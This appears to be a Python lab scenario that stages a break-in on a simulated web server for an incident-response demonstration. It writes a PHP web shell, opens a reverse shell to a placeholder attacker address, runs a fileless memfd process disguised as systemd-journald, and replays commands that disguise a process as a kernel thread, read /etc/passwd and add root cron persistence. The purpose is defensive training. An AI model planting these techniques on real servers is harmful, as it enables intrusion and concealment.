"""A small break-in for the demonstration: what a responder finds on a web server after it."""

from __future__ import annotations

import os
import socket
from pathlib import Path
from typing import Any

from tests.lab.inside import actors, libc, scenario, shell, sockets

WEB, ROOT = 33, 0
HOME = "/var/www/html"
OWN, ROUTER = "192.0.2.10", "192.0.2.2"
ATTACKER = ("192.0.2.66", 4444)
"""Played by QEMU: see demo.py."""
TYPED = [
    "id",
    "cd /dev/shm",
    "cp /usr/bin/sleep .kw",
    "(exec -a '[kworker/0:1]' ./.kw 100000) &",
    "rm .kw",
    "tail -n 2 /etc/passwd > /tmp/.x",
    "echo '* * * * * root /dev/shm/.kw' >> /tmp/.cron",
]
"""A miner that calls itself a kernel thread, and whose program is gone; and what else was done by hand."""


def run() -> dict[str, Any]:
    """A web server, what came in through it, and what it left running."""
    libc.sethostname(b"web1")
    scenario.load_modules("virtio_net", "nf_tables", "loop")
    sockets.ip(
        "link set lo up",
        f"addr add {OWN}/24 dev eth0",
        "link set eth0 up",
        f"route add default via {ROUTER}",
    )
    Path(HOME).mkdir(parents=True)
    Path(f"{HOME}/index.html").write_text("<h1>It works!</h1>")
    Path(f"{HOME}/upload.php").write_text("<?php system($_GET['c']); ?>")
    started = [
        actors.start("sshd", _listens, 22, ROOT, b"sshd: /usr/sbin/sshd [listener]", name=b"sshd"),
        actors.start("web", _listens, 80, WEB, b"nginx: worker process", name=b"nginx"),
        actors.start("reverse_shell", _reverse_shell),
        actors.start("memfd", _from_memfd),
    ]
    typed = shell.typed("shell", TYPED, ROOT, {"HOME": "/root", "HISTFILE": "/dev/null"})
    roles = [*started, typed]
    return {
        "roles": {role["role"]: role["pid"] for role in roles},
        "history": {str(typed["pid"]): typed["history"]},
    }


def last_moment() -> None:
    """Nothing that passes is told in the demonstration."""


def _listens(port: int, uid: int, command_line: bytes) -> list[Any]:
    server = socket.create_server(("0.0.0.0", port))
    libc.set_command_line(command_line)
    actors.user(uid)
    return [server]


def _reverse_shell() -> None:
    """bash with its standard streams on a connection to the attacker."""
    connection = socket.create_connection(ATTACKER)
    actors.user(WEB)
    os.chdir(HOME)
    for descriptor in range(3):
        os.dup2(connection.fileno(), descriptor)
    actors.become(
        "/bin/bash", [b"bash", b"-i"], {b"PATH": b"/usr/bin:/bin", b"REMOTE_ADDR": ATTACKER[0].encode()}
    )


def _from_memfd() -> None:
    """A program that was never on a disk."""
    descriptor = os.memfd_create("systemd-journald")
    os.write(descriptor, Path("/usr/bin/sleep").read_bytes())
    os.set_inheritable(descriptor, True)
    actors.become(f"/proc/self/fd/{descriptor}", [b"/lib/systemd/systemd-journald", b"100000"])
